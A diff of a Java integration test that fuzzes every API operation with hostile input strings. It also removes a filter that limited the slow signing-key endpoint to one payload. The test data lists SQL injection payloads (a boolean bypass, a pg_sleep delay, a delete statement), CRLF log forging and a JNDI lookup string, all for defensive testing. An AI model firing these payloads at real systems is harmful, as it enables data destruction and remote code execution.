@@ -15,7 +15,6 @@ import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.time.Duration;
-import java.util.List;
 import org.assertj.core.api.SoftAssertions;
 import org.jboss.arquillian.test.api.ArquillianResource;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -28,10 +27,7 @@ class HostileTextIT {
     private static final String ANY_ID = "0199a1b2-0000-7000-8000-000000000001";
     private static final String LOG_LINE = "FORGED ERROR of an attacker";
 
-    /** A new key for signing takes some seconds, so one text must do for it. */
-    private static final String NEW_KEY = "POST /api/admin/signing-keys";
-
-    private static final String TEXT_OF_THE_KEY = "'); select pg_sleep(20); --";
+    /** A new key for signing takes some seconds. */
     private static final Duration ANSWER_MAX = Duration.ofSeconds(15);
 
     @ArquillianResource
@@ -44,7 +40,7 @@ class HostileTextIT {
     @ValueSource(
             strings = {
                 "' or '1'='1' --",
-                TEXT_OF_THE_KEY,
+                "'); select pg_sleep(20); --",
                 "\\'; delete from Account a; --",
                 "x\r\n" + LOG_LINE,
                 "${jndi:ldap://192.0.2.1/x} #{7*7} %n%n%s"
@@ -63,11 +59,7 @@ class HostileTextIT {
 
     private void everywhere(String text) {
         SoftAssertions softly = new SoftAssertions();
-        List<Operation> operations = Description.of(winzo).operations().stream()
-                .filter(operation ->
-                        text.equals(TEXT_OF_THE_KEY) || !operation.toString().equals(NEW_KEY))
-                .toList();
-        for (Operation operation : operations) {
+        for (Operation operation : Description.of(winzo).operations()) {
             for (JsonNode example : operation.examples()) {
                 for (JsonNode body : EachText.replacedBy(text, example)) {
                     check(softly, operation, path(operation), body);
